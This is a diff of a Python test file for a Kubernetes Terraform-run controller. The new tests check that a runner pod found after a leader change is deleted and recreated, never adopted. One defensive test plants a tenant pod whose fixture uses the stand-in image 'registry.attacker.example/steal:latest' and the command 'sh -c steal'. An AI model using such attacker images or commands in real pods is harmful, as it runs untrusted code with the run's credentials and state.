@@ -1,8 +1,9 @@
-"""Issue 25 item 1: adopting a runner pod after a leader change, under the chart's real RBAC.
+"""Issue 25 item 1: a runner pod found under the attempt's name after a leader change, under the chart's real RBAC.
 
 An old leader created attempt 1's pod and died before it recorded the attempt; the new leader's create gets 409
-and reads the pod back to adopt it. The chart granted the controllers `create`, `list` and `watch` on pods but not
-`get`, so the read was a 403, raised out of every reconcile: the run never got a status, 43 tries in one run.
+and reads the pod back. The chart granted the controllers `create`, `list` and `watch` on pods but not `get`, so
+the read was a 403, raised out of every reconcile: the run never got a status, 43 tries in one run. Such a pod is
+never adopted (a tenant who may create pods makes one just like it, §10.2): it is deleted and made again.
 
 These tests run the run controller's own code against the emulator with the chart's rendered RBAC installed,
 authenticated as the controllers' ServiceAccount by a token the API issued for it (not `--as`: the emulator
@@ -14,6 +15,7 @@ from __future__ import annotations
 
 import asyncio
 import shutil
+import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import timedelta
@@ -75,9 +77,10 @@ def chart_rbac(tmp_path: Path) -> Iterator[ChartRbac]:
         api.stop()
 
 
-def _objects(admin: httpx.Client) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
+def _objects(admin: httpx.Client, planted: bool = False) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
     """A repository, a layer, and an apply run whose attempt 1 pod an old leader created (as the chart's
-    controllers would have made it) without recording the attempt in the run's status."""
+    controllers would have made it) without recording the attempt in the run's status; `planted`: a tenant made
+    it instead, dressed as the run's own."""
     base = f"/apis/{ann.API_VERSION}/namespaces/default"
     repository = admin.post(f"{base}/terraformrepositories", json={
         "apiVersion": ann.API_VERSION, "kind": "TerraformRepository", "metadata": {"name": "repo"},
@@ -93,13 +96,17 @@ def _objects(admin: httpx.Client) -> tuple[dict[str, Any], dict[str, Any], dict[
     settings = ControllerSettings()
     defaults = RunnerDefaults(settings.runner_image, settings.runner_service_account, settings.datastore_url,
                               tuple(settings.runner_command))
-    admin.post("/api/v1/namespaces/default/pods", json=build_runner_pod(run, layer, 1, defaults, {})
-               ).raise_for_status()
+    pod = build_runner_pod(run, layer, 1, defaults, {})
+    if planted:
+        pod["spec"]["containers"][0].update(image=EVIL_IMAGE, command=["sh", "-c", "steal"])
+    admin.post("/api/v1/namespaces/default/pods", json=pod).raise_for_status()
     return repository, layer, run
 
 
-def _context(kube: Kube, repository: dict[str, Any], layer: dict[str, Any], run: dict[str, Any]) -> Context:
-    ctx = Context(settings=ControllerSettings(metrics_port=0, failure_grace_period=timedelta(seconds=15)), kube=kube)
+def _context(kube: Kube, repository: dict[str, Any], layer: dict[str, Any], run: dict[str, Any],
+             grace: float = 15) -> Context:
+    ctx = Context(settings=ControllerSettings(metrics_port=0, failure_grace_period=timedelta(seconds=grace)),
+                  kube=kube)
     ctx.inventory.repositories.observe(repository)
     ctx.inventory.layers.observe(layer)
     ctx.inventory.runs.observe(run)
@@ -108,27 +115,62 @@ def _context(kube: Kube, repository: dict[str, Any], layer: dict[str, Any], run:
 
 
 async def _reconcile_as_controllers(rbac: ChartRbac, repository: dict[str, Any], layer: dict[str, Any],
-                                    run: dict[str, Any]) -> Context:
+                                    run: dict[str, Any], grace: float = 15) -> Context:
     kube = await Kube.connect(str(rbac.kubeconfig))
     try:
-        ctx = _context(kube, repository, layer, run)
+        ctx = _context(kube, repository, layer, run, grace)
         await reconcile_run(ctx, ("default", run["metadata"]["name"]))
         return ctx
     finally:
         await kube.close()
 
 
-def test_the_chart_lets_a_new_leader_adopt_the_pod_its_predecessor_created(chart_rbac: ChartRbac) -> None:
-    repository, layer, run = _objects(chart_rbac.admin)
-    asyncio.run(_reconcile_as_controllers(chart_rbac, repository, layer, run))
+EVIL_IMAGE = "registry.attacker.example/steal:latest"
+RUNS = f"/apis/{ann.API_VERSION}/namespaces/default/terraformruns"
 
+
+def _replaced(rbac: ChartRbac, repository: dict[str, Any], layer: dict[str, Any], run: dict[str, Any]) -> str:
+    """Two reconciles as the chart's controllers, the second after the first's backoff: the pod found under the
+    attempt's name is not adopted but deleted, then the attempt's own is made. The uid the pod first had."""
     name = run["metadata"]["name"]
-    status = chart_rbac.admin.get(f"/apis/{ann.API_VERSION}/namespaces/default/terraformruns/{name}").json()["status"]
-    pod = chart_rbac.admin.get(f"/api/v1/namespaces/default/pods/{pod_name(name, 1)}").json()
+    found = rbac.admin.get(f"/api/v1/namespaces/default/pods/{pod_name(name, 1)}").raise_for_status().json()
+    asyncio.run(_reconcile_as_controllers(rbac, repository, layer, run, grace=1))
+
+    status = rbac.admin.get(f"{RUNS}/{name}").json()["status"]
+    assert not status.get("attempts"), f"the pod found under the attempt's name was adopted: {status.get('attempts')}"
+    assert "it is never adopted; deleted" in status["podCreation"]["message"], status
+    assert rbac.admin.get(f"/api/v1/namespaces/default/pods/{pod_name(name, 1)}").status_code == 404
+    lease = rbac.admin.get(path("coordination.k8s.io/v1", "leases", "default", layer_lease_name(layer, run)))
+    assert lease.json()["spec"]["holderIdentity"] == name, "the Lease is kept while that pod may still run"
+
+    time.sleep(2.1)  # the backoff of one refused creation (failure grace 1 s; its time is kept to the second)
+    asyncio.run(_reconcile_as_controllers(rbac, repository, layer, rbac.admin.get(f"{RUNS}/{name}").json(), grace=1))
+    status = rbac.admin.get(f"{RUNS}/{name}").json()["status"]
+    pod = rbac.admin.get(f"/api/v1/namespaces/default/pods/{pod_name(name, 1)}").raise_for_status().json()
     assert status["state"] == "Running", status
     assert [(a["number"], a["podName"], a.get("podUid")) for a in status["attempts"]] == [
-        (1, pod_name(name, 1), pod["metadata"]["uid"])], "the existing pod is the attempt: adopted, not a second one"
-    assert "podCreation" not in status
+        (1, pod_name(name, 1), pod["metadata"]["uid"])], "the run records the pod its own create made"
+    assert pod["metadata"]["uid"] != found["metadata"]["uid"]
+    assert pod["spec"]["containers"][0]["image"] == ControllerSettings().runner_image
+    return str(found["metadata"]["uid"])
+
+
+def test_the_chart_lets_a_new_leader_replace_the_pod_its_predecessor_created(chart_rbac: ChartRbac) -> None:
+    """The old leader's pod has had no runner rights (the run never recorded it, §10.2): deleted and made again,
+    the chart granting `get` and `delete` on pods."""
+    _replaced(chart_rbac, *_objects(chart_rbac.admin))
+
+
+def test_attack_a_pod_dressed_as_the_runs_own_is_never_adopted(chart_rbac: ChartRbac) -> None:
+    """A tenant who may create pods (not exec into them) makes the next attempt's pod before the run does: the
+    runner account, a token for burrito-py, the run label and a controller owner reference naming the run's uid,
+    and their own image. Adopted, its uid became the attempt's and the datastore gave it the run's rights (its
+    inputs, the layer's state, the attempt's plan)."""
+    planted_uid = _replaced(chart_rbac, *_objects(chart_rbac.admin, planted=True))
+    status = chart_rbac.admin.get(f"{RUNS}/app-apply-1234567890").json()["status"]
+    assert planted_uid not in str(status)
+    events = chart_rbac.admin.get("/api/v1/namespaces/default/events").json()["items"]
+    assert any(e["reason"] == "RunnerPodCreationFailed" and "never adopted" in e["message"] for e in events), events
 
 
 def test_a_403_on_the_read_back_is_a_visible_wait_that_keeps_the_lease(chart_rbac: ChartRbac) -> None:
@@ -145,8 +187,7 @@ def test_a_403_on_the_read_back_is_a_visible_wait_that_keeps_the_lease(chart_rba
     name = run["metadata"]["name"]
     status = chart_rbac.admin.get(f"/apis/{ann.API_VERSION}/namespaces/default/terraformruns/{name}").json()["status"]
     creation = status["podCreation"]
-    assert creation["failures"] == 1 and "already exists (409) and cannot be read to adopt it: 403" in creation[
-        "message"], creation
+    assert creation["failures"] == 1 and "already exists (409) and cannot be read: 403" in creation["message"], creation
     assert f"system:serviceaccount:{RELEASE_NAMESPACE}:{RELEASE}-controllers" in creation["message"]
     cond = next(c for c in status["conditions"] if c["type"] == "RunnerPodCreated")
     assert cond["status"] == "False" and cond["reason"] == "PodCreationFailed" and "next try after" in cond["message"]
